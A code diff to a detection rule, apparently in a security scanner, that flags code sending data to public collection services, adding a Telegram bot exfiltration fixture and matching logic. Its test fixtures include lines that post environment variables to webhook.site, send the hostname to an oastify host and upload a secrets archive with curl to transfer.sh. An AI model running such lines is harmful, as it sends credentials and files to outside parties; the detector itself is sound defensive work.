@@ -1,4 +1,5 @@
 import type { FileCheck } from '../../check.ts';
+import { fake } from '../../fake.ts';
 import { PLACEHOLDER_PATH } from '../../knowledge/shady-hosts.ts';
 
 /** Services that keep whatever is sent to them for anybody who knows the address. */
@@ -66,6 +67,11 @@ export const check: FileCheck = {
     bad: [
       { 'setup.py': 'requests.post("«https://webhook.site/0f1e2d3c-aaaa-bbbb»", data=dict(os.environ))\n' },
       { 'index.js': "https.request('«https://x7.oastify.com/c»' + os.hostname());\n" },
+      {
+        'sent.py': `
+          with Client() as c:
+              c.get("«https://api.telegram.org/bot${fake('', 9, 'digits')}:${fake('AA', 33)}»/sendMessage", params=found)`,
+      },
       { 'run.sh': 'curl --upload-file secrets.tar «https://transfer.sh/s.tar»\n' },
     ],
     good: [
@@ -82,7 +88,7 @@ export const check: FileCheck = {
         const line = lineAround(window.text, match.index, match[0].length);
         const nearby = window.text.slice(Math.max(0, match.index - 160), match.index + 200);
         // A hook with its key is only there to be used.
-        const isUsed = USED.test(nearby) || match[0].includes('/webhooks/');
+        const isUsed = USED.test(nearby) || match[0].includes('/webhooks/') || match[0].includes('telegram.org/bot');
         if (DEFENCE.test(line) || PLACEHOLDER.test(match[0]) || !isUsed || language === 'markdown') continue;
         yield {
           at: window.spanOf(match),
